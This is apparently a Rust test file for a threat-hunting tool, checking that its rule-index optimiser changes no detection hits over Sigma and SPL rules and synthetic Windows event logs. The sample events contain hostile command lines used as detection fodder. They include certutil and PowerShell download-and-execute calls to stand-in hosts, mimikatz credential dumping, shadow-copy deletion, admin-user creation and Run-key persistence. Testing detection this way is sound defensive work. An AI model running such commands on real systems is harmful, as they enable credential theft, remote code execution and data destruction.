//! The rule index (`hunt`'s optimiser pass) only skips rules that cannot match: a hunt with it
//! gives the same hits, summary and warnings as with `--no-optimize`. Over the repository's
//! rules and the rules of the Sigma and SPL case files, and (when `../shared/corpus` is there)
//! the SigmaHQ Windows rules; on events made to trip an index: `\u` and `\/` escapes, other
//! letter case, letters that fold to ASCII ones, numbers written otherwise, arrays, `{}` keys,
//! nested, flat and Winlogbeat Windows shapes, bad and multi-line objects.

use serde_json::{json, Value};
use std::path::{Path, PathBuf};

mod common;
use common::*;

/// Runs `hunt` over `events` with and without the index, and with the index looking for
/// literals in the raw line rather than in their fields (when every line is parsed anyway, it
/// looks in the fields); all must agree. Returns the hit count.
fn same_hunt(dir: &Path, rules: &[String], events: &Path) -> usize {
    let mut args: Vec<String> = vec!["hunt".into()];
    for r in rules {
        args.extend(["-r".to_string(), r.clone()]);
    }
    args.extend([
        events.display().to_string(),
        "--format".into(),
        "json".into(),
    ]);
    let run = |extra: &[&str]| {
        let mut all: Vec<&str> = args.iter().map(String::as_str).collect();
        all.extend(extra);
        spelunk_in(dir, &all)
    };
    let reference = run(&["--no-optimize"]);
    assert_eq!(reference.status.code(), Some(0), "{}", err(&reference));
    for passes in [&[][..], &["--no-optimize=field-literals"]] {
        let indexed = run(passes);
        assert_eq!(indexed.status.code(), Some(0), "{}", err(&indexed));
        assert!(
            out(&indexed) == out(&reference),
            "hits differ with {passes:?}"
        );
        assert_eq!(err(&indexed), err(&reference));
    }
    out(&reference).lines().count()
}

/// The rules of the Sigma and SPL case files that load and compile on their own, each in its own
/// file under `dir/rules`, and all their events.
fn case_rules(dir: &Path) -> Vec<Value> {
    let mut events = Vec::new();
    for (folder, key) in [("tests/sigma_cases", "rule"), ("tests/cases", "spl")] {
        let mut files: Vec<PathBuf> = std::fs::read_dir(root().join(folder))
            .expect("case folder")
            .flatten()
            .map(|e| e.path())
            .filter(|p| p.extension().is_some_and(|e| e == "yml"))
            .collect();
        files.sort();
        for file in files {
            let text = std::fs::read_to_string(&file).expect("case file");
            let cases: Vec<Value> = serde_yaml::from_str(&text).expect("cases");
            for (n, case) in cases.iter().enumerate() {
                let some = case["events"].as_array().into_iter().flatten().take(20);
                events.extend(some.cloned());
                let Some(rule) = case[key].as_str().filter(|r| usable(case, r)) else {
                    continue;
                };
                let stem = file.file_stem().unwrap().to_string_lossy();
                let ext = if key == "rule" { "yml" } else { "spl" };
                let path = dir.join(format!("rules/{stem}_{n}.{ext}"));
                write(dir, &format!("rules/{stem}_{n}.{ext}"), rule);
                if !loads(&path) {
                    std::fs::remove_file(&path).expect("remove");
                }
            }
        }
    }
    events
}

/// Cases whose rule runs alike twice (no expected error, pipeline, lookup or clock) and starts
/// with a search the index can read (not `*` or a generating command).
fn usable(case: &Value, rule: &str) -> bool {
    let clock = ["now", "time()", "random", "makeresults", "lookup"];
    let start = rule.trim_start();
    !start.starts_with('*')
        && !start.starts_with('|')
        && case["error"].is_null()
        && case["pipelines"].is_null()
        && case["lookups"].is_null()
        && !clock.iter().any(|c| rule.contains(c))
}

fn loads(path: &Path) -> bool {
    let options = spelunk::rules::LoadOptions::default();
    spelunk::rules::load_rule(path, &options)
        .is_ok_and(|rules| spelunk::hunt::compile_all(&rules, &Default::default(), 1).is_ok())
}

/// A tiny deterministic generator (xorshift), so the events are the same on every run.
struct Rng(u64);

impl Rng {
    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        items[(self.0 % items.len() as u64) as usize]
    }
}

/// Sysmon-like events as `benches/gen_sysmon_events.py` writes them, with commands that rules
/// look for, in several letter cases.
fn generated(n: usize) -> Vec<Value> {
    let images = [
        r"C:\Windows\System32\cmd.exe",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"C:\Windows\System32\certutil.exe",
        r"C:\Windows\System32\rundll32.exe",
        r"C:\WINDOWS\SYSTEM32\REG.EXE",
        r"C:\Users\bob\AppData\Local\Temp\updater.exe",
        r"C:\Windows\System32\wbem\WMIC.exe",
        r"C:\Windows\System32\net.exe",
    ];
    let commands = [
        "/c whoami /priv",
        "-NoProfile -EncodedCommand SQBFAFgA",
        "-urlcache -split -f http://example.com/a.exe",
        "shell32.dll,Control_RunDLL",
        "add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d c:\\t.exe",
        "user admin P@ssw0rd! /add",
        "process call create \"cmd /c vssadmin delete shadows /all\"",
        "sekurlsa::logonpasswords",
        "-e JABzAD0A",
        "/c echo ^^c^m^d",
        "",
    ];
    let ids = ["1", "1", "3", "11", "13", "4688", "4104"];
    let mut rng = Rng(4688);
    (0..n)
        .map(|i| {
            let image = rng.pick(&images);
            json!({
                "EventTime": format!("2024-05-14 09:{:02}:{:02}", i / 60 % 60, i % 60),
                "Hostname": "WS001.corp.example.com",
                "EventID": rng.pick(&ids).parse::<u32>().unwrap(),
                "Channel": rng.pick(&["Microsoft-Windows-Sysmon/Operational", "Security"]),
                "Image": image,
                "CommandLine": format!("\"{image}\" {}", rng.pick(&commands)),
                "ParentImage": rng.pick(&images),
                "User": rng.pick(&["CORP\\bob", "NT AUTHORITY\\SYSTEM"]),
                "IntegrityLevel": rng.pick(&["Medium", "System"]),
                "TargetObject": rng.pick(&["HKLM\\SYSTEM\\CurrentControlSet\\Services\\x\\ImagePath", ""]),
            })
        })
        .collect()
}

/// Lines written by hand: each spells a value some other way than a literal search expects.
fn edge_lines() -> Vec<String> {
    let lines = [
        r#"{"EventID":1,"Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -split -f http://x.example/a.exe"}"#,
        r#"{"EventID":1,"Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -split -f http:\/\/x.example\/a.exe"}"#,
        r#"{"EventID":1,"Image":"C:\\Windows\\System32\\\u0063ertutil.exe","CommandLine":"\u0063ertutil -urlcache -f http://x/a"}"#,
        r#"{"EventID":1,"Image":"C:\\WINDOWS\\SYSTEM32\\CERTUTIL.EXE","CommandLine":"CERTUTIL -URLCACHE -SPLIT -F HTTP://X/A.EXE"}"#,
        r#"{"EventID":"1","Image":"C:\\Windows\\System32\\whoami.exe","CommandLine":"whoami /priv"}"#,
        r#"{"EventID":1.0,"Image":"C:\\Windows\\System32\\whoami.exe","CommandLine":"whoami /all"}"#,
        r#"{"EventID":1e0,"Image":"C:\\Windows\\System32\\whoami.exe","CommandLine":"whoami /groups"}"#,
        r#"{"EventID":[4688,1],"Image":["C:\\x\\a.exe","C:\\Windows\\System32\\rundll32.exe"],"CommandLine":"rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\""}"#,
        r#"{"EventID":1,"_raw":"sekurlsa::logonpasswords","CommandLine":"x"}"#,
        r#"{"EventID":1,"Image{}":"C:\\Windows\\System32\\certutil.exe","CommandLine{}":"certutil -decode a b"}"#,
        r#"{"Event":{"System":{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational"},"UserData":{"X":{"Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://x/a"}}}}"#,
        "{\"EventID\":1,\"Image\":\"C:\\\\Windows\\\\System32\\\\wscript.exe\",\"CommandLine\":\"\u{212a}ERBEROS::golden /u\"}",
        "{\"EventID\":1,\"Image\":\"C:\\\\Windows\\\\System32\\\\net.exe\",\"CommandLine\":\"net u\u{17f}er admin /add\"}",
        "{\"EventID\":1,\"Image\":\"C:\\\\W\u{130}ndows\\\\System32\\\\cmd.exe\",\"CommandLine\":\"cmd /c \u{130}EX\"}",
        r#"{"EventID":4104,"ScriptBlockText":"IEX (New-Object Net.WebClient).DownloadString('http://x/a')","Path":""}"#,
        r#"{"EventID":13,"TargetObject":"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x","Details":"C:\\Users\\Public\\a.exe"}"#,
        r#"{"EventID":1,"Image":null,"CommandLine":"x"}"#,
        r#"{"foo":"bar"}"#,
        r#"{"EventID":1,"n":1e400}"#,
        r#"{"EventID":1,"s":"\ud800"}"#,
        "not json",
        "",
        "   ",
        "{",
        r#""EventID": 1, "CommandLine": "certutil -urlcache -f http://x/a","#,
        r#""Image": "C:\\Windows\\System32\\certutil.exe"}"#,
        r#"[1,2]"#,
        r#"{"EventID":1,"CommandLine":"powershell -enc"#,
    ];
    lines.iter().map(|l| l.to_string()).collect()
}

/// Each object as a line, and variants of it: upper-cased, `\u`-escaped, `\/`-escaped, flat
/// (NXLog) with letters that fold to ASCII, and Winlogbeat-shaped.
fn variants(events: &[Value]) -> Vec<String> {
    let mut lines = Vec::new();
    for (n, event) in events.iter().enumerate() {
        let line = event.to_string();
        lines.push(line.clone());
        if n % 3 != 0 {
            continue;
        }
        lines.push(map_strings(event, &|s| s.to_uppercase()).to_string());
        lines.push(line.replace('/', "\\/"));
        lines.push(escaped(event));
        let flat = flat(event);
        lines.push(
            map_strings(&flat, &|s| {
                s.replace('k', "\u{212a}").replace('s', "\u{17f}")
            })
            .to_string(),
        );
        lines.push(flat.to_string());
        lines.push(json!({"winlog": {"event_id": flat["EventID"], "channel": flat["Channel"], "event_data": flat}}).to_string());
    }
    lines
}

fn map_strings(v: &Value, f: &dyn Fn(&str) -> String) -> Value {
    match v {
        Value::String(s) => Value::String(f(s)),
        Value::Array(items) => Value::Array(items.iter().map(|i| map_strings(i, f)).collect()),
        Value::Object(map) => Value::Object(
            map.iter()
                .map(|(k, v)| (k.clone(), map_strings(v, f)))
                .collect(),
        ),
        other => other.clone(),
    }
}

/// The event as JSON with the first letter of every string written as a `\u` escape.
fn escaped(v: &Value) -> String {
    match v {
        Value::String(s) => match s.chars().next() {
            Some(c) => format!(
                "\"\\u{:04x}{}",
                c as u32,
                &serde_json::to_string(&s[c.len_utf8()..]).unwrap()[1..]
            ),
            None => "\"\"".to_string(),
        },
        Value::Array(items) => format!(
            "[{}]",
            items.iter().map(escaped).collect::<Vec<_>>().join(",")
        ),
        Value::Object(map) => format!(
            "{{{}}}",
            map.iter()
                .map(|(k, v)| format!("{}:{}", Value::String(k.clone()), escaped(v)))
                .collect::<Vec<_>>()
                .join(",")
        ),
        other => other.to_string(),
    }
}

/// An evtx_dump event flattened as NXLog writes it (`EventData` and `System` fields at the top,
/// the event ID as text); other events as they are.
fn flat(v: &Value) -> Value {
    let Some(event) = v.get("Event") else {
        return v.clone();
    };
    let mut out = serde_json::Map::new();
    if let Some(data) = event["EventData"].as_object() {
        out.extend(data.clone());
    }
    out.insert(
        "EventID".into(),
        Value::String(event["System"]["EventID"].to_string()),
    );
    out.insert("Channel".into(), event["System"]["Channel"].clone());
    Value::Object(out)
}

fn write_events(dir: &Path, name: &str, lines: &[String]) -> PathBuf {
    write(dir, name, &(lines.join("\n") + "\n"));
    dir.join(name)
}

#[test]
fn the_index_changes_no_hit_of_the_repository_and_case_rules() {
    let dir = temp_dir("hunt-index", "cases");
    let events = case_rules(&dir);
    let mut lines: Vec<String> = events.iter().map(Value::to_string).collect();
    lines.extend(variants(&generated(150)));
    lines.extend(edge_lines());
    let file = write_events(&dir, "events.ndjson", &lines);
    let rules = vec![
        "rules".to_string(),
        root().join("rules").display().to_string(),
    ];
    let hits = same_hunt(&dir, &rules, &file);
    assert!(
        hits > 100,
        "only {hits} hits: the events should trip many rules"
    );
}

#[test]
fn the_index_changes_no_hit_of_sigmahq_windows_rules() {
    let corpus = root().join("../shared/corpus/sigmahq");
    if !corpus.join("rules/windows").is_dir() {
        println!("skipped: ../shared/corpus/sigmahq is absent");
        return;
    }
    let dir = temp_dir("hunt-index", "sigmahq");
    let mut objects = Vec::new();
    let mut files: Vec<PathBuf> = walk(&corpus.join("regression_data/rules/windows"));
    files.sort();
    for file in files
        .iter()
        .filter(|f| f.extension().is_some_and(|e| e == "json"))
    {
        let text = std::fs::read_to_string(file).expect("regression events");
        let stream = serde_json::Deserializer::from_str(&text).into_iter::<Value>();
        objects.extend(stream.flatten());
    }
    let mut lines = variants(&objects);
    lines.extend(variants(&generated(150)));
    lines.extend(edge_lines());
    let file = write_events(&dir, "events.ndjson", &lines);
    let rules = ["rules/windows", "rules-threat-hunting/windows"]
        .map(|r| corpus.join(r).display().to_string());
    let hits = same_hunt(&dir, &rules, &file);
    assert!(
        hits > 300,
        "only {hits} hits: the regression events should trip many rules"
    );
}

/// Every file below `dir`.
fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            out.extend(walk(&path));
        } else {
            out.push(path);
        }
    }
    out
}
